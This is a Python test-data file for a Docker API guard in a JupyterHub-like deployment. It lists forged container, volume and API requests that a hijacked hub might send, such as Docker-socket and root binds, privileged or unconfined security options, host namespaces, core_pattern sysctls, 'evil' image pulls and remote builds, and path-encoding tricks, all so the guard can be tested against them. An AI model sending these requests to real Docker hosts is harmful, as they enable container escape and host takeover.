"""Forged calls to the Docker API, by name: what a hub under someone else's control would try."""

from __future__ import annotations

import copy
import json
from typing import Any

from hub.guard.rules import lab_labels
from tests.support.docker.guarded_engine import OTHER, OWN

V = "/v1.41"
CREATE = f"{V}/containers/create?name=p-lab-bob"
G = 1024**3
LAB: dict[str, Any] = {
    "ExposedPorts": {"8888/tcp": None},
    **dict.fromkeys(("Tty", "OpenStdin", "StdinOnce", "AttachStdin", "NetworkDisabled"), False),
    "AttachStdout": True,
    "AttachStderr": True,
    "Env": ["JUPYTERHUB_USER=bob"],
    "Cmd": ["jupyterhub-singleuser"],
    "Image": "p-lab",
    "Volumes": {"/home/jovyan": {}},
    "HostConfig": {
        "Memory": 2 * G,
        "MemorySwap": 2 * G,
        "NetworkMode": "p-labs",
        "CapDrop": ["ALL"],
        "SecurityOpt": ["no-new-privileges:true"],
        "Binds": ["p-home-bob:/home/jovyan:rw"],
        "Links": [],
        "LogConfig": {"Type": "json-file", "Config": {"max-size": "10m", "max-file": "2"}},
        "CpuQuota": 100_000,
        "CpuPeriod": 100_000,
        "CpuShares": 64,
        "PidsLimit": 512,
        "ShmSize": 64 * 1024**2,
        "Tmpfs": {"/tmp": "rw,exec,nosuid,nodev,mode=1777,size=1073741824"},
        "Init": True,
        "Mounts": [],
    },
    "Labels": lab_labels("p"),
}
MEASURE = ["timeout", "--signal=KILL", "600", "du", "-sx", "--block-size=1", "/volume"]
TOOL: dict[str, Any] = {
    "User": "0:10100",
    "AttachStdout": True,
    "AttachStderr": True,
    "Cmd": [],
    "Image": "p-hub",
    "Volumes": {"/volume": {}},
    "Entrypoint": MEASURE,
    "HostConfig": {
        "Memory": G // 4,
        "ReadonlyRootfs": True,
        "NetworkMode": "none",
        "CapAdd": ["DAC_READ_SEARCH"],
        "CapDrop": ["ALL"],
        "SecurityOpt": ["no-new-privileges:true"],
        "Binds": ["p-home-bob:/volume:ro"],
        "LogConfig": {"Type": "json-file", "Config": {"max-size": "1m"}},
        "CpuShares": 128,
        "PidsLimit": 16,
    },
    "Labels": {"org.passerelle.tool": "p"},
}
SHARED = {"Name": "p-course-algebra", "Labels": {"org.passerelle.project": "p"}}


def changed(body: dict[str, Any], **fields: Any) -> dict[str, Any]:
    """Return the body with other fields; those of a host configuration go there."""
    body = copy.deepcopy(body)
    top = {"Image", "User", "Env", "Cmd", "Entrypoint", "Volumes", "Labels", "Healthcheck", "NetworkingConfig"}
    top |= {"Tty", "ExposedPorts", "AttachStdin", "StopSignal", "MacAddress"}
    for name, value in fields.items():
        (body if name in top else body["HostConfig"])[name] = value
    return body


def without(body: dict[str, Any], field: str) -> dict[str, Any]:
    """Return the body without a field of its host configuration."""
    body = copy.deepcopy(body)
    del body["HostConfig"][field]
    return body


def mount(**fields: Any) -> dict[str, Any]:
    return changed(LAB, Mounts=[{"Target": "/x", **fields}])


def binds(*texts: str) -> dict[str, Any]:
    return changed(LAB, Binds=list(texts))


FORGED_LABS: dict[str, dict[str, Any]] = {
    "privileged": changed(LAB, Privileged=True),
    "privileged-false-is-unknown-too": changed(LAB, Privileged=False),
    "privileged-in-lower-case": changed(LAB, privileged=True),
    "host-config-in-lower-case": LAB | {"hostconfig": {"Privileged": True}},
    "host-config-missing": {key: value for key, value in LAB.items() if key != "HostConfig"},
    "bind-of-root-folder": binds("/:/host:rw"),
    "bind-of-docker-socket": binds("/var/run/docker.sock:/docker.sock:rw"),
    "bind-of-etc-read-only": binds("/etc:/mnt:ro"),
    "bind-beside-public-folder": binds("/srv/public data/../../etc:/mnt:ro"),
    "bind-below-public-folder": binds("/srv/public data/x:/mnt:ro"),
    "bind-of-secrets-volume": binds("p_secrets:/mnt:ro"),
    "bind-of-hub-data-volume": binds("p_hub-data:/mnt:rw"),
    "bind-of-other-deployment": binds("q-home-bob:/mnt:rw"),
    "bind-with-similar-prefix": binds("p-homes:/mnt:rw"),
    "bind-of-home-with-dot-segments": binds("p-home-../../etc:/mnt:rw"),
    "bind-with-shared-propagation": binds("p-home-bob:/home/jovyan:rw,rshared"),
    "bind-without-mode": binds("p-home-bob:/home/jovyan"),
    "bind-with-four-parts": binds("p-home-bob:/home/jovyan:rw:/etc"),
    "bind-to-target-with-dot-segments": binds("p-home-bob:/home/../../etc:rw"),
    "bind-to-relative-target": binds("p-home-bob:home:rw"),
    "bind-that-is-no-text": binds(["/:/host:rw"]),  # type: ignore[arg-type]
    "mount-of-root-folder": mount(Type="bind", Source="/"),
    "mount-of-volume-with-driver-options": mount(
        Type="volume", Source="p-home-x", VolumeOptions={"DriverConfig": {"Options": {"device": "/", "o": "bind"}}}
    ),
    "mount-of-tmpfs-with-exec": mount(Type="tmpfs", TmpfsOptions={"Options": [["exec"]]}),
    "mount-of-named-pipe": mount(Type="npipe", Source="//./pipe/docker_engine"),
    "volumes-from-other-container": changed(LAB, VolumesFrom=["p-bridge-1"]),
    "volume-driver": changed(LAB, VolumeDriver="sshfs"),
    "anonymous-volume": changed(LAB, Volumes={"/home/jovyan": {}, "/var/lib": {}}),
    "host-network": changed(LAB, NetworkMode="host"),
    "network-of-other-container": changed(LAB, NetworkMode="container:p-bridge-1"),
    "network-namespace-by-path": changed(LAB, NetworkMode="ns:/proc/1/ns/net"),
    "network-of-the-edge": changed(LAB, NetworkMode="p_edge"),
    "second-network": changed(LAB, NetworkingConfig={"EndpointsConfig": {"p_edge": {}}}),
    "fixed-mac-address": changed(LAB, MacAddress="02:42:ac:11:00:02"),
    "published-port": changed(LAB, PortBindings={"8888/tcp": [{"HostPort": "80"}]}),
    "all-ports-published": changed(LAB, PublishAllPorts=True),
    "exposed-udp-port": changed(LAB, ExposedPorts={"53/udp": None}),
    "links": changed(LAB, Links=["p-bridge-1:bridge"]),
    "extra-hosts": changed(LAB, ExtraHosts=["hub:10.0.0.1"]),
    "other-dns-server": changed(LAB, Dns=["10.0.0.1"]),
    "host-pid": changed(LAB, PidMode="host"),
    "pid-of-other-container": changed(LAB, PidMode="container:p-bridge-1"),
    "host-ipc": changed(LAB, IpcMode="host"),
    "shareable-ipc": changed(LAB, IpcMode="shareable"),
    "host-uts": changed(LAB, UTSMode="host"),
    "host-userns": changed(LAB, UsernsMode="host"),
    "host-cgroupns": changed(LAB, CgroupnsMode="host"),
    "cgroup-parent": changed(LAB, CgroupParent="/"),
    "device-of-disk": changed(LAB, Devices=[{"PathOnHost": "/dev/sda", "CgroupPermissions": "rwm"}]),
    "device-cgroup-rule": changed(LAB, DeviceCgroupRules=["a *:* rwm"]),
    "all-gpus": changed(LAB, DeviceRequests=[{"Driver": "", "Count": -1, "Capabilities": [["gpu"]], "Options": {}}]),
    "gpu-of-no-group": changed(
        LAB,
        DeviceRequests=[{"Driver": "", "Count": 0, "DeviceIDs": ["7"], "Capabilities": [["gpu"]], "Options": {}}],
    ),
    "device-request-without-ids": changed(
        LAB, DeviceRequests=[{"Driver": "", "Count": 0, "DeviceIDs": [], "Capabilities": [["gpu"]], "Options": {}}]
    ),
    "device-request-of-other-driver": changed(
        LAB,
        DeviceRequests=[{"Driver": "cdi", "Count": 0, "DeviceIDs": ["0"], "Capabilities": [["gpu"]], "Options": {}}],
    ),
    "cap-add-sys-admin": changed(LAB, CapAdd=["SYS_ADMIN"]),
    "cap-add-all": changed(LAB, CapAdd=["ALL"]),
    "cap-drop-missing": without(LAB, "CapDrop"),
    "cap-drop-empty": changed(LAB, CapDrop=[]),
    "cap-drop-of-one": changed(LAB, CapDrop=["NET_RAW"]),
    "seccomp-unconfined": changed(LAB, SecurityOpt=["no-new-privileges:true", "seccomp=unconfined"]),
    "apparmor-unconfined": changed(LAB, SecurityOpt=["apparmor=unconfined"]),
    "label-disable": changed(LAB, SecurityOpt=["no-new-privileges:true", "label=disable"]),
    "system-paths-unconfined": changed(LAB, SecurityOpt=["no-new-privileges:true", "systempaths=unconfined"]),
    "new-privileges": changed(LAB, SecurityOpt=["no-new-privileges:false"]),
    "security-opt-missing": without(LAB, "SecurityOpt"),
    "masked-paths-empty": changed(LAB, MaskedPaths=[]),
    "readonly-paths-empty": changed(LAB, ReadonlyPaths=[]),
    "sysctls": changed(LAB, Sysctls={"kernel.core_pattern": "|/x"}),
    "ulimits": changed(LAB, Ulimits=[{"Name": "nofile", "Soft": 9**9, "Hard": 9**9}]),
    "storage-options": changed(LAB, StorageOpt={"size": "900G"}),
    "other-runtime": changed(LAB, Runtime="runc-unconfined"),
    "tmpfs-over-etc": changed(LAB, Tmpfs={"/etc": "exec,suid,dev"}),
    "tmpfs-without-limit": changed(LAB, Tmpfs={"/tmp": "exec"}),
    "tmpfs-missing": without(LAB, "Tmpfs"),
    "shared-memory-above-limit": changed(LAB, ShmSize=65 * 1024**2),
    "shared-memory-unlimited": changed(LAB, ShmSize=-1),
    "restart-policy": changed(LAB, RestartPolicy={"Name": "always"}),
    "no-oom-kill": changed(LAB, OomKillDisable=True),
    "oom-score": changed(LAB, OomScoreAdj=-1000),
    "memory-above-limit": changed(LAB, Memory=9 * G, MemorySwap=9 * G),
    "memory-unlimited": changed(LAB, Memory=0, MemorySwap=0),
    "memory-missing": without(LAB, "Memory"),
    "memory-as-float": changed(LAB, Memory=1e9, MemorySwap=1e9),
    "swap": changed(LAB, MemorySwap=-1),
    "cpus-above-limit": changed(LAB, CpuQuota=300_000),
    "cpus-unlimited": changed(LAB, CpuQuota=-1),
    "cpu-shares-above-services": changed(LAB, CpuShares=262_144),
    "cpu-realtime": changed(LAB, CpuRealtimeRuntime=950_000),
    "processes-unlimited": changed(LAB, PidsLimit=-1),
    "processes-above-limit": changed(LAB, PidsLimit=4096),
    "log-without-limit": changed(LAB, LogConfig={"Type": "json-file", "Config": {}}),
    "log-to-other-server": changed(LAB, LogConfig={"Type": "syslog", "Config": {"syslog-address": "udp://10.0.0.1"}}),
    "group-docker": changed(LAB, GroupAdd=["999"]),
    "user-root": changed(LAB, User="0"),
    "other-entrypoint": changed(LAB, Entrypoint=["/bin/sh"]),
    "terminal": changed(LAB, Tty=True),
    "healthcheck": changed(LAB, Healthcheck={"Test": ["CMD", "true"]}),
    "image-that-is-not-declared": changed(LAB, Image="evil/image"),
    "image-of-the-hub": changed(LAB, Image="p-hub"),
    "image-with-other-tag": changed(LAB, Image="p-lab:other"),
    "labels-missing": changed(LAB, Labels={}),
    "labels-of-other-project": changed(LAB, Labels=lab_labels("q")),
    "label-for-another-program": changed(LAB, Labels=lab_labels("p") | {"ofelia.job-exec.x.command": "id"}),
}

FORGED_TOOLS: dict[str, dict[str, Any]] = {
    "tool-with-other-command": changed(TOOL, Entrypoint=["sh", "-c", "id"]),
    "tool-with-arguments": changed(TOOL, Cmd=["-x"]),
    "tool-with-lab-image": changed(TOOL, Image="p-lab"),
    "tool-with-network": changed(TOOL, NetworkMode="p_edge"),
    "tool-with-all-capabilities": changed(TOOL, CapAdd=["ALL"]),
    "tool-measuring-with-chown": changed(TOOL, CapAdd=["DAC_READ_SEARCH", "CHOWN"]),
    "tool-writing-a-home": changed(TOOL, Binds=["p-home-bob:/volume:rw"]),
    "tool-with-root-folder": changed(TOOL, Binds=["/:/volume:ro"]),
    "tool-with-secrets": changed(TOOL, Binds=["p_secrets:/volume:ro"]),
    "tool-with-second-target": changed(TOOL, Binds=["p-home-bob:/usr/local/bin:ro"]),
    "tool-sharing-a-home": changed(
        TOOL,
        Entrypoint=["python", "-m", "hub.storage.chown_helper", "/volumes/p-home-bob"],
        Binds=["p-home-bob:/volumes/p-home-bob:rw"],
        Volumes={},
    ),
    "tool-with-environment": changed(TOOL, Env=["PYTHONPATH=/volume"]),
    "tool-with-other-user": changed(TOOL, User="0:0"),
    "tool-with-writable-root": without(TOOL, "ReadonlyRootfs"),
    "tool-with-argument-split-in-two": changed(TOOL, Entrypoint=["timeout --signal=KILL 600", *MEASURE[3:]]),
}

FORGED_VOLUMES: dict[str, dict[str, Any]] = {
    "volume-with-driver-options": SHARED | {"DriverOpts": {"type": "none", "device": "/", "o": "bind"}},
    "volume-with-driver": SHARED | {"Driver": "sshfs"},
    "volume-of-other-name": SHARED | {"Name": "p_secrets"},
    "volume-of-a-home": SHARED | {"Name": "p-home-bob"},
    "volume-with-other-labels": SHARED | {"Labels": {}},
    "volume-in-cluster": SHARED | {"ClusterVolumeSpec": {}},
}

# Method, target and, if any, body.
FORGED_CALLS: dict[str, tuple[str, str, Any]] = {
    "exec-in-lab": ("POST", f"{V}/containers/p-lab-bob/exec", {"Cmd": ["id"]}),
    "exec-in-bridge": ("POST", f"{V}/containers/p-bridge-1/exec", {"Cmd": ["id"], "Privileged": True}),
    "exec-start": ("POST", f"{V}/exec/{OWN}/start", {"Detach": True}),
    "attach": ("POST", f"{V}/containers/p-lab-bob/attach?stream=1&stdin=1", None),
    "attach-websocket": ("GET", f"{V}/containers/p-lab-bob/attach/ws", None),
    "read-files": ("GET", f"{V}/containers/p-bridge-1/archive?path=/data", None),
    "write-files": ("PUT", f"{V}/containers/p-lab-bob/archive?path=/", None),
    "export": ("GET", f"{V}/containers/p-bridge-1/export", None),
    "rename": ("POST", f"{V}/containers/p-bridge-1/rename?name=p-lab-x", None),
    "update-limits": ("POST", f"{V}/containers/p-lab-bob/update", {"Memory": 0}),
    "kill": ("POST", f"{V}/containers/p-bridge-1/kill", None),
    "prune-containers": ("POST", f"{V}/containers/prune", None),
    "list-all-containers": ("GET", f"{V}/containers/json?all=1", None),
    "list-by-other-label": ("GET", f"{V}/containers/json?filters=%7B%22label%22%3A%5B%22x%22%5D%7D", None),
    "list-by-label-of-services": (
        "GET",
        f"{V}/containers/json?filters=%7B%22label%22%3A%5B%22com.docker.compose.project%3Dp%22%5D%7D",
        None,
    ),
    "list-all-volumes": ("GET", f"{V}/volumes", None),
    "inspect-secrets-volume": ("GET", f"{V}/volumes/p_secrets", None),
    "remove-home": ("DELETE", f"{V}/volumes/p-home-bob", None),
    "prune-volumes": ("POST", f"{V}/volumes/prune", None),
    "inspect-other-image": ("GET", f"{V}/images/evil/json", None),
    "pull-image": ("POST", f"{V}/images/create?fromImage=evil", None),
    "load-image": ("POST", f"{V}/images/load", None),
    "tag-image": ("POST", f"{V}/images/evil/tag?repo=p-lab", None),
    "push-image": ("POST", f"{V}/images/p-lab/push", None),
    "remove-image": ("DELETE", f"{V}/images/p-lab", None),
    "export-image": ("GET", f"{V}/images/p-hub/get", None),
    "build": ("POST", f"{V}/build?remote=https://evil.example", None),
    "build-session": ("POST", "/session", None),
    "commit": ("POST", f"{V}/commit?container=p-lab-bob&repo=p-lab", {}),
    "create-network": ("POST", f"{V}/networks/create", {"Name": "x", "Driver": "host"}),
    "connect-network": ("POST", f"{V}/networks/p_edge/connect", {"Container": "p-lab-bob"}),
    "list-networks": ("GET", f"{V}/networks", None),
    "install-plugin": ("POST", f"{V}/plugins/pull?remote=evil", None),
    "init-swarm": ("POST", f"{V}/swarm/init", {"ListenAddr": "0.0.0.0"}),
    "create-service": ("POST", f"{V}/services/create", {}),
    "create-secret": ("POST", f"{V}/secrets/create", {}),
    "list-secrets": ("GET", f"{V}/secrets", None),
    "create-config": ("POST", f"{V}/configs/create", {}),
    "list-nodes": ("GET", f"{V}/nodes", None),
    "info": ("GET", f"{V}/info", None),
    "events": ("GET", f"{V}/events", None),
    "disk-usage": ("GET", f"{V}/system/df", None),
    "registry-login": ("POST", f"{V}/auth", {}),
    "name-of-no-lab": ("POST", f"{V}/containers/create?name=p-bridge-1", LAB),
    "name-missing": ("POST", f"{V}/containers/create", LAB),
    "name-of-tool": ("POST", f"{V}/containers/create?name=p-lab-x", TOOL),
    "create-for-other-platform": ("POST", f"{CREATE}&platform=linux/arm64", LAB),
    "start-with-host-config": ("POST", f"{V}/containers/p-lab-bob/start", {"Privileged": True}),
    "start-from-checkpoint": ("POST", f"{V}/containers/p-lab-bob/start?checkpoint=x", None),
    "logs-that-follow": ("GET", f"{V}/containers/p-lab-bob/logs?follow=1", None),
    "remove-with-link": ("DELETE", f"{V}/containers/p-lab-bob?link=true", None),
    "double-slash-before-version": ("GET", f"/{V}/containers/p-lab-bob/json", None),
    "double-slash-in-path": ("POST", f"{V}//containers/create?name=p-lab-bob", LAB),
    "trailing-slash": ("POST", f"{V}/containers/create/?name=p-lab-bob", LAB),
    "dot-segments": ("POST", f"{V}/containers/p-lab-bob/../p-bridge-1/start", None),
    "dot-segment-of-one": ("POST", f"{V}/./containers/p-lab-bob/start", None),
    "encoded-slash": ("POST", f"{V}/containers/p-lab-bob%2f..%2fp-bridge-1/start", None),
    "encoded-letter": ("POST", f"{V}/containers/p-lab-bo%62/start", None),
    "encoded-twice": ("POST", f"{V}/containers/p-lab-bo%2562/start", None),
    "encoded-path-of-call": ("POST", f"{V}/%63ontainers/create?name=p-lab-bob", LAB),
    "backslash": ("POST", f"{V}/containers/p-lab-bob\\..\\p-bridge-1/start", None),
    "null-byte": ("POST", f"{V}/containers/p-lab-bob%00/start", None),
    "encoded-newline-in-name": ("POST", f"{V}/containers/create?name=p-lab-bob%0a", LAB),
    "upper-case-path": ("POST", f"{V}/Containers/create?name=p-lab-bob", LAB),
    "fragment": ("POST", f"{V}/containers/p-lab-bob/start#x", None),
    "absolute-form": ("GET", f"http://docker{V}/info", None),
    "version-before-cgroup-namespaces": ("POST", "/v1.40/containers/create?name=p-lab-bob", LAB),
    "version-1.12": ("POST", "/v1.12/containers/p-lab-bob/start", None),
    "version-missing": ("POST", "/containers/create?name=p-lab-bob", LAB),
    "version-twice": ("POST", f"{V}{V}/containers/p-lab-bob/start", None),
    "version-with-more-digits": ("POST", "/v1.410/containers/p-lab-bob/start", None),
    "version-2": ("POST", "/v2.41/containers/p-lab-bob/start", None),
    "parameter-twice": ("POST", f"{CREATE}&name=p-bridge-1", LAB),
    "parameter-unknown": ("POST", f"{V}/containers/p-lab-bob/stop?t=5&signal=KILL", None),
    "parameter-with-semicolon": ("POST", f"{V}/containers/p-lab-bob/stop?t=5;signal=KILL", None),
    "parameter-in-other-digits": ("POST", f"{V}/containers/p-lab-bob/stop?t=%D9%A5", None),
    "method-unknown": ("PATCH", f"{V}/containers/p-lab-bob", None),
    "method-head": ("HEAD", f"{V}/containers/p-lab-bob/json", None),
    "key-twice": ("POST", CREATE, json.dumps(LAB).replace('"Tty"', '"Image": "evil", "Tty"', 1).encode()),
    "key-twice-in-host-config": (
        "POST",
        CREATE,
        json.dumps(LAB).replace('"Init"', '"Memory": 1, "Memory": 2, "Init"').encode(),
    ),
    "key-twice-by-escape": ("POST", CREATE, json.dumps(LAB).replace('"Tty"', '"Imag\\u0065": "x", "Tty"').encode()),
    "two-json-values": ("POST", CREATE, json.dumps(LAB).encode() * 2),
    "json-list": ("POST", CREATE, [LAB]),
    "json-null": ("POST", CREATE, b"null"),
    "json-nan": ("POST", CREATE, json.dumps(changed(LAB, Memory=float("nan"))).encode()),
    "json-nested-deeply": ("POST", CREATE, b'{"Labels":' + b"[" * 20_000 + b"]" * 20_000 + b"}"),
    "json-in-utf-16": ("POST", CREATE, json.dumps(LAB).encode("utf-16")),
    "json-in-latin-1": ("POST", CREATE, json.dumps(changed(LAB, Cmd=["é"]), ensure_ascii=False).encode("latin-1")),
    "body-empty": ("POST", CREATE, None),
    "body-oversized": ("POST", CREATE, changed(LAB, Env=["X=" + "x" * 300_000])),
}

# Calls on a container of someone else: the guard inspects it, and does nothing more.
FOREIGN_CALLS: dict[str, tuple[str, str]] = {
    "start-bridge": ("POST", f"{V}/containers/p-bridge-1/start"),
    "stop-bridge-by-id": ("POST", f"{V}/containers/{OTHER}/stop?t=5"),
    "stop-bridge-by-short-id": ("POST", f"{V}/containers/{OTHER[:6]}/stop?t=5"),
    "remove-bridge": ("DELETE", f"{V}/containers/p-bridge-1?force=True"),
    "logs-of-bridge": ("GET", f"{V}/containers/p-bridge-1/logs?stdout=1"),
    "wait-for-bridge": ("POST", f"{V}/containers/p-bridge-1/wait"),
    "inspect-bridge": ("GET", f"{V}/containers/p-bridge-1/json"),
    "remove-lab-of-other-deployment": ("DELETE", f"{V}/containers/q-lab-bob?force=True"),
    "inspect-container-without-labels": ("GET", f"{V}/containers/database/json"),
}
